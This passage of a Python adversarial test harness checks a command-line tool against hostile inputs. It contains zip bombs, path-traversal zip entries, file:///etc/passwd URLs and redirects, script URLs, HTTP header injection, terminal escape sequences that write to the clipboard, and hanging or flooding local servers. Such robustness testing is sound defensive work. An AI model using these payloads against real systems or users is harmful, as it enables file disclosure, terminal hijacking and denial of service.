import_case("PDF named .csv", _f("doc.csv", b"%PDF-1.7\n" + os.urandom(5000)), rc=2)
import_case("gzip named .json", _f("b.json", lambda: gzip.compress(GOOD_JSON.encode())), rc=2)
import_case("truncated JSON", _f("t.json", GOOD_JSON[: len(GOOD_JSON) // 2]), rc=(0, 2))
import_case("JSON nested 100,000 deep", _f("deep.json", "[" * 100_000 + "]" * 100_000), rc=(0, 2))
import_case("JSON objects nested 100,000 deep", _f("deepo.json", '{"a":' * 100_000 + "1" + "}" * 100_000), rc=(0, 2))
import_case("JSON with a 10,000-digit number", _f("num.json", '[{"url": "https://n.example.org/", "time_added": '
                                                   + "9" * 10_000 + "}]"), rc=(0, 2))
import_case("JSON with NaN and huge dates", _f("nan.json", '[{"url": "https://n.example.org/a", "saved_at": NaN},'
                                               '{"url": "https://n.example.org/b", "time_added": 1e308},'
                                               '{"url": "https://n.example.org/c", "savedAt": "99999-99-99T99:99"},'
                                               '{"url": "https://n.example.org/d", "time_added": -1e18}]'), rc=(0, 2))
import_case("JSON top-level string", _f("s.json", '"https://example.org/"'), rc=(0, 2))
import_case("JSON top-level null", _f("n.json", "null"), rc=(0, 2))
import_case("JSON with wrong types in every field", _f("types.json", json.dumps([
    {"url": ["https://x.org"], "title": {"a": 1}, "tags": 5, "note": None, "status": [], "time_added": "soon"},
    {"url": 12, "title": 1.5}, {"url": "https://ok.example.org/", "tags": [[["deep"]]], "labels": {"x": 1}}])),
            rc=(0, 2))
import_case("JSON with a 150 MB title", lambda box: box.write(
    "big.json", b'[{"url": "https://b.example.org/", "title": "' + b"t" * (150 * MB) + b'"}]'), rc=(0, 2), heavy=True,
    within=40)
import_case("truncated HTML", _f("t.html", GOOD_HTML[: len(GOOD_HTML) // 2]), rc=(0, 2))
import_case("HTML nested 100,000 folders", _f("nest.html", NETSCAPE + "<DT><H3>f</H3><DL><p>\n" * 100_000
                                              + '<DT><A HREF="https://deep.example.org/">deep</A>\n'), rc=(0, 2))
import_case("HTML with invalid character references", _f("ref.html", NETSCAPE + (
    '<DT><A HREF="https://r.example.org/&#99999999999;">&#x110000;&#0;&#xD800;&#55296;</A>\n'
    '<DT><A HREF="https://r.example.org/ok" ADD_DATE="99999999999999999999">&#1114111;ok&bogus;</A>\n')), rc=(0, 2))
import_case("HTML with a 150 MB attribute", lambda box: box.write(
    "attr.html", NETSCAPE.encode() + b'<DT><A HREF="https://a.example.org/" ICON="' + b"A" * (150 * MB) + b'">a</A>\n'),
    rc=(0, 2), heavy=True, within=40)
import_case("HTML unclosed comment", _f("c.html", NETSCAPE + "<!-- " + "x" * (5 * MB)), rc=(0, 2))
import_case("truncated CSV", _f("t.csv", GOOD_CSV[: len(GOOD_CSV) // 2 + 7]), rc=(0, 2))
import_case("CSV with an unbalanced quote", _f("q.csv", GOOD_CSV.replace("T5,", '"T5,', 1)), rc=0, added=99)
import_case("CSV with NUL bytes", _f("nul.csv", GOOD_CSV.replace("T7,", "T\x007,")), rc=(0, 2))
import_case("CSV with 10,000 columns", _f("wide.csv", ",".join(f"c{n}" for n in range(10_000)) + ",url\n"
                                          + "x," * 10_000 + "https://w.example.org/\n"), rc=(0, 2))
import_case("CSV header only", _f("h.csv", "title,url,time_added,tags,status\n"), rc=(0, 2))
import_case("CSV in UTF-16", _f("u16.csv", lambda: GOOD_CSV.encode("utf-16")), rc=(0, 2))
import_case("CSV with invalid UTF-8", _f("bad.csv", lambda: GOOD_CSV.encode().replace(b"T9,", b"T\xff\xfe9,")),
            rc=(0, 2))
import_case("CSV with bare CR line ends", _f("cr.csv", GOOD_CSV.replace("\n", "\r")), rc=(0, 2))
import_case("CSV with a 100 MB field", lambda box: box.write(
    "field.csv", b"url,title,note\nhttps://a.example.org/,A,\"" + b"n" * (100 * MB) + b"\"\nhttps://b.example.org/,B,\n"),
    rc=(0, 2), heavy=True, within=40)
import_case("HTML content named .csv", _f("html.csv", GOOD_HTML), rc=(0, 2), added=100)
import_case("CSV content named .json", _f("csv.json", GOOD_CSV), rc=(0, 2), added=100)
import_case("JSON content named .html", _f("json.html", GOOD_JSON), rc=(0, 2), added=100)
import_case("zip named .html", _f("zip.html", lambda: _zip({"bookmarks.html": GOOD_HTML.encode()})), rc=(0, 2))
import_case("URL list with hostile schemes and hosts", _f("urls.txt", "\n".join([
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
    "http://[::1", "http://127.0.0.1:99999/", "https://user:pass@example.org:0/", "http://" + "a" * 70_000 + ".org/",
    "https://xn--80ak6aa92e.com/", "http://%00/", "https://example.org/\x1b]2;x\x07", "https://ok.example.org/"])),
            rc=(0, 2))
import_case("empty zip", _f("e.zip", lambda: _zip({})), rc=(0, 2))
import_case("zip with nothing importable", _f("n.zip", lambda: _zip({"a.png": os.urandom(2000), "b.bin": b"\x00" * 99})),
            rc=(0, 2))
import_case("zip with path traversal names", _f("trav.zip", lambda: _zip({"../../../../tmp/evil.html": GOOD_HTML.encode(),
                                                                         "/etc/evil.csv": GOOD_CSV.encode()})),
            rc=(0, 2))
import_case("zip bomb: one member of 1 GB of zeros", _f("bomb.zip", lambda: _zip_of_zeros(1024 * MB)), rc=2,
            heavy=True, within=30)
import_case("zip bomb: zip inside a zip", _f("nested.zip", lambda: _zip({"inner.zip": _zip_of_zeros(300 * MB)})),
            rc=(0, 2), heavy=True, within=30)
import_case("zip with a header that says 100 bytes (1 MB inside)",
            _f("lying.zip", lambda: _lying_zip(b"https://example.org/\n" * 50_000, 100)), rc=2)
import_case("zip with a header that says 4 GB", _f("big-header.zip",
                                                   lambda: _lying_zip(b"https://example.org/x\n", 0xFFFFFFF0)), rc=2)
import_case("truncated zip", _f("cut.zip", lambda: _zip({"bookmarks.html": GOOD_HTML.encode() * 5})[:-200]), rc=(0, 2))
import_case("zip with a bad CRC", _f("crc.zip", lambda: _bad_crc(_zip({"links.txt": b"https://c.example.org/\n" * 10},
                                                                       zipfile.ZIP_STORED))), rc=(0, 2))
import_case("zip with 150,000 members", _f("many.zip", lambda: _zip({f"m{n}.txt": b"" for n in range(150_000)},
                                                                   zipfile.ZIP_STORED)), rc=(0, 2), heavy=True)
import_case("encrypted zip member", _f("enc.zip", lambda: _encrypted_flag(_zip({"links.txt": b"https://e.org/\n"}))),
            rc=(0, 2))
import_case("file over the 200 MB cap (sparse)", lambda box: _sparse_file(box.path("huge.html"), 250 * MB), rc=2,
            within=10, memory_factor=None)
import_case("FIFO", _fifo, rc=2, memory_factor=None)
import_case("/dev/zero", lambda box: Path("/dev/zero"), rc=2, memory_factor=None)
import_case("/dev/urandom via a symlink", _special("/dev/urandom"), rc=2, memory_factor=None)
import_case("a directory", lambda box: box.work, rc=2, memory_factor=None)
import_case("a missing file", lambda box: box.path("nope.html"), rc=2, memory_factor=None)
import_case("a symlink loop", lambda box: _loop(box.path("loop.html")), rc=2, memory_factor=None)


def _loop(path: Path) -> Path:
    path.symlink_to(path)
    return path


def _sparse_file(path: Path, size: int) -> Path:
    with open(path, "wb") as out:
        out.write(NETSCAPE.encode())
        out.truncate(size)
    return path


def _bad_crc(data: bytes) -> bytes:
    changed = bytearray(data)
    local = changed.find(b"PK\x03\x04")
    changed[local + 30 + len("links.txt")] ^= 0xFF  # first byte of the stored data
    return bytes(changed)


def _encrypted_flag(data: bytes) -> bytes:
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        changed[at + offset] |= 0x01
    return bytes(changed)


# --- alert channels ------------------------------------------------------------------------------


class HostileServer:
    """A TCP server on 127.0.0.1 answering every connection with one hostile behaviour."""

    def __init__(self, behaviour: str) -> None:
        self.behaviour = behaviour
        self.stop = threading.Event()
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        if behaviour == "refuse":
            self.sock.close()
            return
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            threading.Thread(target=self._answer, args=(conn,), daemon=True).start()

    def _read_request(self, conn: socket.socket) -> None:
        conn.settimeout(2)
        with contextlib.suppress(OSError):
            data = b""
            while b"\r\n\r\n" not in data and len(data) < 1 << 20:
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk

    def _answer(self, conn: socket.socket) -> None:
        try:
            self._read_request(conn)
            conn.settimeout(None)
            getattr(self, "_" + self.behaviour.replace("-", "_"))(conn)
        except OSError:
            pass
        finally:
            with contextlib.suppress(OSError):
                conn.close()

    def _drip(self, conn: socket.socket, head: bytes, byte: bytes, every: float = 1.0) -> None:
        conn.sendall(head)
        while not self.stop.wait(every):
            conn.sendall(byte)

    def _hang(self, conn):
        self.stop.wait(120)

    def _drip_body(self, conn):
        self._drip(conn, b"HTTP/1.1 200 OK\r\nContent-Length: 1048576\r\n\r\n", b"x")

    def _drip_headers(self, conn):
        self._drip(conn, b"HTTP/1.1 200 OK\r\n", b"X")

    def _drip_fast(self, conn):
        self._drip(conn, b"HTTP/1.1 200 OK\r\nContent-Length: 1048576\r\n\r\n", b"x", 0.05)

    def _status_500(self, conn):
        conn.sendall(b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 5\r\nConnection: close\r\n\r\nerror")

    def _status_429(self, conn):
        conn.sendall(b"HTTP/1.1 429 Too Many Requests\r\nRetry-After: 86400\r\nContent-Length: 0\r\n"
                     b"Connection: close\r\n\r\n")

    def _status_503_retry_date(self, conn):
        conn.sendall(b"HTTP/1.1 503 Unavailable\r\nRetry-After: Fri, 31 Dec 9999 23:59:59 GMT\r\nContent-Length: 0\r\n"
                     b"Connection: close\r\n\r\n")

    def _huge_body(self, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1073741824\r\n\r\n")
        block = b"y" * 65536
        for _ in range(16384):
            if self.stop.is_set():
                break
            conn.sendall(block)

    def _endless_chunked(self, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"10000\r\n" + b"z" * 65536 + b"\r\n"
        while not self.stop.is_set():
            conn.sendall(chunk)

    def _gzip_bomb(self, conn):
        body = GZIP_BOMB
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    def _redirect_loop(self, conn):
        conn.sendall(f"HTTP/1.1 307 Again\r\nLocation: {self.url}/again\r\nContent-Length: 0\r\n"
                     "Connection: close\r\n\r\n".encode())

    def _redirect_file(self, conn):
        conn.sendall(b"HTTP/1.1 307 Go\r\nLocation: file:///etc/passwd\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def _garbage(self, conn):
        conn.sendall(b"\x00\xff\x1b]2;PWNED\x07 garbage \r\n\r\n" + os.urandom(2000))

    def _reset(self, conn):
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")

    def _close(self, conn):
        pass

    def _escape_reason(self, conn):
        conn.sendall(b"HTTP/1.1 500 \x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]2;PWNED\x07\x9b2J oops\r\n"
                     b"Content-Length: 30\r\nConnection: close\r\n\r\n\x1b]2;BODY\x07\x1b[2J body \x1b]52;c;eA==\x07")

    def _escape_body_400(self, conn):
        body = (b"\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]2;PWNED\x07 bad request\n" * 50)
        conn.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n"
                     b"Connection: close\r\n\r\n" % len(body) + body)

    def _endless_continue(self, conn):
        while not self.stop.is_set():
            conn.sendall(b"HTTP/1.1 100 Continue\r\n\r\n" * 100)
            time.sleep(0.01)

    def _header_flood(self, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\n" + b"X-A: b\r\n" * 100_000 + b"Content-Length: 0\r\n\r\n")

    def _long_header(self, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\nX-Long: " + b"a" * (1 << 20) + b"\r\nContent-Length: 0\r\n\r\n")

    def _bad_length(self, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\nContent-Length: 99\r\n\r\nshort")

    def close(self) -> None:
        self.stop.set()
        with contextlib.suppress(OSError):
            self.sock.close()


GZIP_BOMB = zlib.compress(b"", 9)  # replaced in main() (built only when the alerts category runs)


def _alert_config(channel: str, url: str) -> str:
    base = "[alerts]\nbell = false\nterminal = false\ntmux = false\nnotify_send = \"off\"\n"
    if channel == "ntfy":
        return base + f'[alerts.ntfy]\nserver = "{url}"\ntopic = "harness-topic"\n'
    return base + f'[alerts.webhook]\nurl = "{url}/hook"\nstyle = "json"\n'


BUDGET = 2 * PUSH_TIMEOUT


def push_case(behaviour: str, channel: str, *, sent_ok: bool = False) -> None:
    def run(box: Sandbox) -> None:
        server = HostileServer(behaviour)
        try:
            box.config.write_text(_alert_config(channel, server.url))
            result = box.cli("notify", "--test", timeout=BUDGET * 3, max_mb=200)
        finally:
            server.close()
        box.expect(result, (0, 1) if sent_ok else 1, within=BUDGET + START_SLACK)
        box.clean(result.out + result.err, "notify --test report")
        line = [ln for ln in result.out.decode("utf-8", "replace").splitlines() if ln.startswith(channel)]
        if not line:
            box.fail(f"no line for the {channel} channel in the report")
        elif not sent_ok and "failed" not in line[0]:
            box.fail(f"the {channel} channel was not reported failed: {line[0][:120]!r}")
    add_case("alerts", f"notify --test, {channel} server: {behaviour}", run, slow=True)


for _behaviour in ("refuse", "hang", "drip-body", "drip-headers", "drip-fast", "status-500", "status-429",
                   "status-503-retry-date", "huge-body", "endless-chunked", "redirect-loop", "redirect-file",
                   "garbage", "reset", "close", "escape-reason", "escape-body-400", "endless-continue",
                   "header-flood", "long-header", "bad-length"):
    push_case(_behaviour, "webhook", sent_ok=_behaviour in ("huge-body", "endless-chunked", "bad-length"))
for _behaviour in ("refuse", "hang", "drip-body", "drip-headers", "status-429", "escape-reason", "gzip-bomb"):
    push_case(_behaviour, "ntfy", sent_ok=_behaviour == "gzip-bomb")


@case("alerts", "notify --test, https URL to a plain-HTTP server", slow=True)
def _tls_plain(box: Sandbox) -> None:
    server = HostileServer("status-500")
    try:
        box.config.write_text(_alert_config("webhook", server.url.replace("http://", "https://")))
        result = box.cli("notify", "--test", timeout=BUDGET * 3)
    finally:
        server.close()
    box.expect(result, 1, within=BUDGET + START_SLACK)
    box.clean(result.out + result.err, "notify --test report")


@case("alerts", "watch --notify --until-done with a hanging push server", slow=True)
def _watch_notify_hang(box: Sandbox) -> None:
    server = HostileServer("drip-body")
    try:
        box.config.write_text(_alert_config("webhook", server.url))
        log = box.write("f.log", PROGRESS)  # running first: the failure is a change, and alerts
        result = box.cli("watch", "--notify", "--until-done", log, timeout=40,
                         on_start=lambda process: _append_later(log, FAILED[len(PROGRESS):], 1.5))
    finally:
        server.close()
    box.expect(result, 1, within=BUDGET + START_SLACK + 1)
    box.clean(result.out + result.err, "watch --notify output")
    if b"not delivered" not in result.err and b"not sent" not in result.err and b"failed" not in result.err:
        box.fail("the lost push was not reported")


@case("alerts", "watch --notify of 20 failing runs, push server hanging", slow=True)
def _watch_notify_many(box: Sandbox) -> None:
    server = HostileServer("hang")
    try:
        box.config.write_text(_alert_config("ntfy", server.url))
        logs = [box.write(f"runs/r{n}.log", PROGRESS) for n in range(20)]

        def fail_all(process: subprocess.Popen) -> None:
            for log in logs:
                _append_later(log, FAILED[len(PROGRESS):], 1.5)

        result = box.cli("watch", "--notify", "--until-done", *logs, timeout=60, on_start=fail_all)
    finally:
        server.close()
    box.expect(result, 1, within=BUDGET + START_SLACK + 1)


def _append_later(path: Path, text: str, seconds: float) -> None:
    def append() -> None:
        time.sleep(seconds)
        with contextlib.suppress(OSError), open(path, "a") as out:
            out.write(text)
    threading.Thread(target=append, daemon=True).start()


def command_case(name: str, argv: Callable[[Sandbox], list[str]], *, within: float = 10.0 + START_SLACK,
                 sent: bool = False) -> None:
    def run(box: Sandbox) -> None:
        box.config.write_text("[alerts]\nbell = false\nterminal = false\ntmux = false\nnotify_send = \"off\"\n"
                              f"command = {json.dumps(argv(box))}\n")
        result = box.cli("notify", "--test", timeout=40)
        box.expect(result, 0 if sent else 1, within=within)
        box.clean(result.out + result.err, "notify --test report")
    add_case("alerts", f"alert command: {name}", run, slow=True)


command_case("missing program", lambda box: ["/nonexistent/alert"])
command_case("not executable", lambda box: [str(box.write("alert.sh", "#!/bin/sh\n"))])
command_case("a directory", lambda box: [str(box.work)])
command_case("hangs (sleep 60)", lambda box: ["sleep", "60"])
command_case("hangs and ignores SIGTERM", lambda box: ["sh", "-c", "trap '' TERM; sleep 60"])
command_case("leaves a daemon holding its output", lambda box: ["sh", "-c", "sleep 60 & exit 0"], sent=True)
command_case("prints 100 MB", lambda box: ["sh", "-c", "head -c 100000000 /dev/zero; exit 0"], sent=True)
ESCAPES_TO_STDERR = "printf '\\033]52;c;cHduZWQ=\\007\\033]2;PWNED\\007\\n' >&2; exit 3"
command_case("fails with escapes on stderr", lambda box: ["sh", "-c", ESCAPES_TO_STDERR])


@case("alerts", "WAITBUDDY_WEBHOOK_URL=file:///etc/passwd in the environment")
def _env_file_url(box: Sandbox) -> None:
    box.config.write_text(_alert_config("none", "")[: _alert_config("none", "").index("[alerts.webhook]")])
    result = box.cli("notify", "--test", env={"WAITBUDDY_WEBHOOK_URL": "file:///etc/passwd"})
    box.expect(result, (1, 2), within=10)
    if b"sent" in result.out and b"webhook  sent" in result.out.replace(b":", b""):
        box.fail("a file:// webhook was reported sent")
    box.clean(result.out + result.err, "notify --test report")


@case("alerts", "WAITBUDDY_WEBHOOK_URL with a broken IPv6 host")
def _env_bad_url(box: Sandbox) -> None:
    box.config.write_text("[alerts]\nbell = false\nterminal = false\ntmux = false\nnotify_send = \"off\"\n")
    result = box.cli("notify", "--test", env={"WAITBUDDY_WEBHOOK_URL": "http://[::1/x"})
    box.expect(result, (1, 2), within=10)


@case("alerts", "WAITBUDDY_NTFY_TOPIC with a newline and escapes")
def _env_topic(box: Sandbox) -> None:
    server = HostileServer("status-500")
    try:
        box.config.write_text(f"[alerts]\nbell = false\nterminal = false\ntmux = false\nnotify_send = \"off\"\n"
                              f'[alerts.ntfy]\nserver = "{server.url}"\n')
        result = box.cli("notify", "--test", env={"WAITBUDDY_NTFY_TOPIC": "t\r\nX-Evil: 1\x1b]2;x\x07"}, timeout=30)
    finally:
        server.close()
    box.expect(result, (1, 2), within=BUDGET + START_SLACK)
    box.clean(result.out + result.err, "notify --test report")


@case("alerts", "TMUX names a socket that is not there")
def _bogus_tmux(box: Sandbox) -> None:
    box.config.write_text("[alerts]\nbell = false\nterminal = true\ntmux = true\nnotify_send = \"off\"\n")
    result = box.cli("notify", "--test", env={"TMUX": f"{box.work}/nope,1,0", "TMUX_PANE": "%0"})
    box.expect(result, (0, 1), within=3 + START_SLACK)


@case("alerts", "TMUX names a FIFO")
def _fifo_tmux(box: Sandbox) -> None:
    fifo = _fifo(box)
    box.config.write_text("[alerts]\nbell = false\nterminal = true\ntmux = true\nnotify_send = \"off\"\n")
    result = box.cli("notify", "--test", env={"TMUX": f"{fifo},1,0", "TMUX_PANE": "%0"})
    box.expect(result, (0, 1), within=3 + START_SLACK)


@case("alerts", "notify-send with a desktop bus that does not answer")
def _bogus_dbus(box: Sandbox) -> None:
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(box.path("bus")))
    listener.listen(1)  # accepts into the backlog, never speaks
    try:
        box.config.write_text("[alerts]\nbell = false\nterminal = false\ntmux = false\nnotify_send = \"auto\"\n")
        result = box.cli("notify", "--test", env={"DBUS_SESSION_BUS_ADDRESS": f"unix:path={box.path('bus')}"})
    finally:
        listener.close()
    box.expect(result, (0, 1), within=3 + 1 + START_SLACK)


# --- launcher ------------------------------------------------------------------------------------


def launch_case(name: str, argv: Callable[[Sandbox], list], rc, *, within: float = 10.0, one_line: bool = False,
                env: dict | None = None, recorded: bool | None = None, heavy: bool = False) -> None:
    def run(box: Sandbox) -> None:
        result = box.cli("run", "--log", box.path("r.log"), "--", *argv(box), env=env)
        box.expect(result, rc, within=within, one_line=one_line)
        if recorded:
            listed = box.cli("runs", "--json", "--all")
            if listed.rc != 0 or not listed.out.strip():
                box.fail("the run was not recorded")
    add_case("launcher", name, run, heavy=heavy)


launch_case("missing command", lambda box: ["/nonexistent/train"], 127, one_line=True)
launch_case("command not on PATH", lambda box: ["no-such-trainer-xyz"], 127, one_line=True)
launch_case("non-executable file", lambda box: [str(box.write("train.py", "print(1)\n"))], 126, one_line=True)
launch_case("a directory as the command", lambda box: [str(box.work)], 126, one_line=True)
launch_case("non-UTF-8 command name", lambda box: [os.fsencode(box.work) + b"/tr\xffain"], 127, one_line=True)
launch_case("non-UTF-8 script", lambda box: [PYTHON, os.fsencode(box.write(b"tr\xffain.py", "print('ran')\n"))], 0,
            recorded=True)
launch_case("exit status 3", lambda box: ["sh", "-c", "exit 3"], 3, recorded=True)
launch_case("exit status 255", lambda box: ["sh", "-c", "exit 255"], 255)
launch_case("killed by SIGSEGV", lambda box: ["sh", "-c", "kill -SEGV $$"], 139, recorded=True)
launch_case("killed by SIGKILL", lambda box: ["sh", "-c", "kill -KILL $$"], 137, recorded=True)
launch_case("writes 50 MB of binary output", lambda box: ["head", "-c", "50000000", "/dev/urandom"], 0, within=15)
launch_case("writes a 20 MB line without newline", lambda box: ["sh", "-c", "head -c 20000000 /dev/zero | tr '\\0' x"],
            0, within=15)
launch_case("leaves a background process holding the output", lambda box: ["sh", "-c", "sleep 30 & echo started"], 0,
            within=8)
launch_case("closes its stdout and keeps running", lambda box: ["sh", "-c", "exec >&- 2>&-; sleep 1"], 0)
launch_case("broken config: starts with the defaults", lambda box: ["sh", "-c", "exit 5"], 5,
            env={"WAITBUDDY_CONFIG": "/dev/zero"}, heavy=True)
launch_case("data dir is a file: the job still runs", lambda box: ["sh", "-c", "exit 6"], 6,
            env={"WAITBUDDY_DATA_DIR": "/dev/null"})
launch_case("100,000 arguments", lambda box: ["true", *(["x" * 10] * 100_000)], 0)


@case("launcher", "no command after --")
def _no_command(box: Sandbox) -> None:
    box.expect(box.cli("run", "--"), 2)


@case("launcher", "--log is a directory")
def _log_dir(box: Sandbox) -> None:
    result = box.cli("run", "--log", box.work, "--", "true")
    box.expect(result, (0, 2), one_line=True)


@case("launcher", "--log is a FIFO")
def _log_fifo(box: Sandbox) -> None:
    result = box.cli("run", "--log", _fifo(box), "--", "true", timeout=15)
    box.expect(result, (0, 2), within=10)


@case("launcher", "--log is /dev/full")
def _log_full(box: Sandbox) -> None:
    result = box.cli("run", "--log", "/dev/full", "--", "sh", "-c", "echo hi; exit 0")
    box.expect(result, (0, 2), within=10)


@case("launcher", "--log in a directory that does not exist")
def _log_missing_dir(box: Sandbox) -> None:
    result = box.cli("run", "--log", box.path("a", "b", "c", "r.log"), "--", "true")
    box.expect(result, (0, 2), within=10)


@case("launcher", "--log under a regular file (ENOTDIR)")
def _log_enotdir(box: Sandbox) -> None:
    result = box.cli("run", "--log", str(box.write("f", "x")) + "/r.log", "--", "true")
    box.expect(result, (0, 2), within=10, one_line=True)


@case("launcher", "run from a deleted working directory")
def _deleted_cwd(box: Sandbox) -> None:
    gone = box.path("gone")
    gone.mkdir()
    argv = [PYTHON, "-m", "waitbuddy", "run", "--name", "x", "--", "sh", "-c", "exit 0"]
    script = f"cd {gone} && rmdir {gone} && exec " + " ".join(f"'{a}'" for a in argv)
    result = spawn(["sh", "-c", script], env=box.env, timeout=20)
    box.last = result
    box.repro.append(f"sh -c {script!r}")
    if TRACEBACK in result.err:
        box.fail("a Python traceback on stderr")
    box.expect(result, (0, 2), within=10)


def signal_case(signum: int, expected: int | tuple[int, ...]) -> None:
    name = signal.Signals(signum).name

    def run(box: Sandbox) -> None:
        def send(process: subprocess.Popen) -> None:
            def later() -> None:
                time.sleep(1.5)
                with contextlib.suppress(ProcessLookupError):
                    os.kill(process.pid, signum)  # the run process itself, not its group
            threading.Thread(target=later, daemon=True).start()

        result = box.cli("run", "--name", "sig", "--log", box.path("r.log"), "--", "sleep", "30", on_start=send,
                         measure=False)
        box.expect(result, expected, within=10)
        listed = box.cli("runs", "--json", "--all")
        try:
            (record,) = [json.loads(line) for line in listed.out.splitlines()]
            if record["status"] in ("running", "waiting"):
                box.fail(f"the run is still recorded as {record['status']}")
        except ValueError:
            box.fail(f"runs --json: {listed.out[:100]!r}")
    add_case("launcher", f"{name} sent to the run pid", run)


signal_case(signal.SIGINT, (130, -signal.SIGINT))  # dying of SIGINT again is how a shell gets its 130
signal_case(signal.SIGTERM, 143)
signal_case(signal.SIGHUP, 129)


@case("launcher", "the job killed -9 while run waits")
def _child_killed(box: Sandbox) -> None:
    def kill_child(process: subprocess.Popen) -> None:
        def later() -> None:
            time.sleep(1.5)
            subprocess.run(["pkill", "-KILL", "-P", str(process.pid)], check=False)
        threading.Thread(target=later, daemon=True).start()

    result = box.cli("run", "--log", box.path("r.log"), "--", "sleep", "30", on_start=kill_child, measure=False)
    box.expect(result, 137, within=10)


@case("launcher", "run killed -9 mid-job, then runs and status", slow=True)
def _run_killed(box: Sandbox) -> None:
    box.seed()
    argv = [*WB, "run", "--name", "k", "--log", str(box.path("k.log")), "--", "sleep", "30"]
    process = subprocess.Popen(argv, env=box.env, cwd=box.work, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               start_new_session=True)
    time.sleep(1.5)
    process.kill()
    process.wait()
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)  # the orphaned job
    for command in (("runs",), ("status",), ("status", "--json")):
        box.expect(box.cli(*command), 0)
    box.intact(TEMPLATE.urls(20), runs=2)


@case("launcher", "locked database: the job starts at once", slow=True)
def _launch_locked(box: Sandbox) -> None:
    box.seed()
    locker = _locker(box.db)
    timer = threading.Timer(3.0, lambda: _stop(locker))
    timer.start()
    try:
        before = time.time()
        child = "import time; print(f'started {time.time()!r}', flush=True); time.sleep(0.3)"
        result = box.cli("run", "--log", box.path("l.log"), "--", PYTHON, "-c", child, timeout=60)
    finally:
        timer.cancel()
        _stop(locker)
    box.expect(result, 0, within=15)
    try:
        started = float(box.path("l.log").read_text().split()[1])
        if started - before > 2.0:
            box.fail(f"the job started {started - before:.1f} s after run")
    except (OSError, IndexError, ValueError):
        box.fail("the job's log has no start line")
    listed = box.cli("runs", "--json", "--all")
    if b'"completed"' not in listed.out:
        box.fail("the run was not recorded once the lock went")


@case("launcher", "locked database for the whole job: exit status kept", slow=True)
def _launch_locked_long(box: Sandbox) -> None:
    box.seed()
    locker = _locker(box.db)
    try:
        before = time.monotonic()
        result = box.cli("run", "--log", box.path("l.log"), "--", "sh", "-c", "echo go; exit 7", timeout=60)
    finally:
        _stop(locker)
    box.expect(result, 7)
    if not box.path("l.log").exists() or b"go" not in box.path("l.log").read_bytes():
        box.fail("the job's output is not in its log")
    if result.seconds > 45:
        box.fail(f"run held the exit for {time.monotonic() - before:.0f} s")


@case("launcher", "read-only file system for the data: the job runs")
def _launch_ro(box: Sandbox) -> None:
    box.seed()
    data = str(box.data)
    result = _private_mount(box, f"mount --bind {data} {data} && mount -o remount,ro,bind {data}",
                            [*WB, "run", "--log", str(box.path("l.log")), "--", "sh", "-c", "exit 9"])
    box.expect(result, 9, within=10)


# ------------------------------------------------------------------------------------------------
# Running the cases


@dataclass
class Outcome:
    case: Case
    held: bool
    skipped: str | None
    problems: list[str] = field(default_factory=list)
    what: str = ""
    repro: str = ""
    seconds: float = 0.0


def try_case(item: Case, base: Path) -> Outcome:
    started = time.monotonic()
    box = Sandbox(base, item.name)
    try:
        item.run(box)
    except Skip as exc:
        return Outcome(item, False, str(exc))
    except Broke as exc:
        box.fail(str(exc))
    except Exception as exc:  # noqa: BLE001 - a harness error is reported as one
        box.fail(f"harness error: {type(exc).__name__}: {exc} ({traceback.format_exc().splitlines()[-3].strip()})")
    finally:
        if hasattr(box, "keep"):
            box.keep.close()
    bad, repro = box.first_bad
    outcome = Outcome(item, not box.problems, None, box.problems, bad.summary() if bad else "", repro,
                      time.monotonic() - started)
    if outcome.held:
        shutil.rmtree(box.dir, ignore_errors=True)
    return outcome


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", help=f"comma-separated categories: {', '.join(CATEGORIES)}")
    parser.add_argument("--case", help="only cases whose name contains this text")
    parser.add_argument("--verbose", "-v", action="store_true", help="print every case as it ends")
    parser.add_argument("--jobs", "-j", type=int, default=3, help="cases at once (default 3; heavy ones run alone)")
    parser.add_argument("--keep", action="store_true", help="keep the sandboxes of cases that did not hold")
    args = parser.parse_args(argv)
    only = set(args.only.split(",")) if args.only else set(CATEGORIES)
    unknown = only - set(CATEGORIES)
    if unknown:
        parser.error(f"unknown category {', '.join(sorted(unknown))}; choose from {', '.join(CATEGORIES)}")
    chosen = [c for c in CASES if c.category in only and (not args.case or args.case.lower() in c.name.lower())]
    global TEMPLATE, GZIP_BOMB
    cap_address_space()
    base = Path(tempfile.mkdtemp(prefix="waitbuddy-adversarial-"))
    base.chmod(0o755)
    TEMPLATE = Template(base)
    if "alerts" in only:
        GZIP_BOMB = gzip.compress(b"\x00" * (256 * MB), 9)
    started = time.monotonic()
